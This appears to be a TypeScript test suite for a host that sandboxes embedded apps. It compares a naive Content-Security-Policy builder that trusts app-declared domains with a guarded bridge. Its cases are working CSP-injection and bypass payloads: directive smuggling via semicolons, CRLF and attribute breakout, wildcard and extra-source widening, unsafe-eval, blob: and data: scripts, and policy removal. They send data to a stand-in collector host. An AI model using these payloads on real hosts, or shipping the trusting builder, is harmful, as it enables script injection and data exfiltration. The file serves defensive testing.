import { looted, out, script, wentOut, type Attack, type Lab, type Place } from '../attack.ts';

interface Declared {
  connectDomains?: string[];
  resourceDomains?: string[];
}

/** The policy as a host writes it that trusts what is declared, in a `<meta>`, as many do. */
async function trusting(lab: Lab, declared: Declared): Promise<void> {
  const { connectDomains = [], resourceDomains = [] } = declared;
  const policy =
    `connect-src ${connectDomains.join(' ')}; script-src 'unsafe-inline' ${resourceDomains.join(' ')}; ` +
    `img-src data: ${resourceDomains.join(' ')}; default-src 'none'`;
  const srcdoc = `<meta http-equiv="Content-Security-Policy" content="${policy}">${await lab.html()}`;
  lab.frame({ sandbox: 'allow-scripts', srcdoc });
}

const declare = (
  name: string,
  declared: (place: Place) => Declared,
  code: string,
  harm: Attack['harm'] = wentOut,
): Attack => ({
  name: `declare ${name}`,
  app: () => script(code),
  meta: (place) => ({ csp: declared(place) }),
  control: async (lab) => trusting(lab, declared(lab.place)),
  guarded: (lab) => lab.bridge(),
  harm,
});

const image = `new Image().src = out('image');`;
const request = `await fetch(out('fetch', 'a.txt'));`;
const connect =
  (domain: string): (() => Declared) =>
  () => ({ connectDomains: [domain] });

export const csp: readonly Attack[] = [
  declare('a directive behind a semicolon', connect('https://a.example; img-src *'), image),
  declare('a directive behind a line break', connect('https://a.example\r\n; img-src *'), image),
  declare('a directive in the path of a domain', connect('https://a.example/;img-src/**;img-src *'), image),
  declare('the end of the attribute', connect('https://a.example"><p title="'), image),
  declare('a star', connect('*'), request),
  declare('a scheme', connect('http:'), request),
  declare(
    'a second source behind a space',
    ({ collector }) => ({ connectDomains: [`https://a.example ${collector}`] }),
    request,
  ),
  declare(
    'a second source behind a tab',
    ({ collector }) => ({ connectDomains: [`https://a.example\t${collector}`] }),
    request,
  ),
  declare(
    'a keyword that allows eval',
    () => ({ resourceDomains: [`'unsafe-eval'`] }),
    `say((0, eval)('"evaluated"'));`,
    looted('evaluated'),
  ),
  declare(
    'blobs as scripts',
    () => ({ resourceDomains: ['blob:'] }),
    `const s = document.createElement('script');
     s.src = URL.createObjectURL(new Blob(['say("from a blob")']));
     document.body.append(s); await wait(100);`,
    looted('from a blob'),
  ),
  declare(
    'data addresses as scripts',
    () => ({ resourceDomains: ['data:'] }),
    `const s = document.createElement('script');
     s.src = 'data:text/javascript,say("from data")';
     document.body.append(s); await wait(100);`,
    looted('from data'),
  ),
  {
    ...declare(
      'domains in a shape that is no list',
      ({ collector }) => ({ connectDomains: collector as never }),
      request,
    ),
    control: async (lab) => trusting(lab, { connectDomains: [lab.place.collector] }),
  },
  {
    name: 'loosen the policy by one of its own',
    app: ({ collector }) =>
      script(request, `<meta http-equiv="Content-Security-Policy" content="connect-src ${collector}">`),
    control: async (lab) => lab.bare(),
    guarded: (lab) => lab.bridge(),
    harm: wentOut,
  },
  {
    name: 'shed the policy by writing its document anew',
    app: (place) =>
      script(`
      launched();
      document.open();
      document.write('<!doctype html><img src="${out(place, 'anew')}">');
      document.close();`),
    control: async (lab) => lab.bare(),
    guarded: (lab) => lab.bridge(),
    harm: wentOut,
  },
  {
    name: 'shed the policy by taking its element away',
    app: () => script(`document.querySelectorAll('meta').forEach((meta) => meta.remove()); ${request}`),
    control: async (lab) => lab.bare(),
    guarded: (lab) => lab.bridge(),
    harm: wentOut,
  },
];
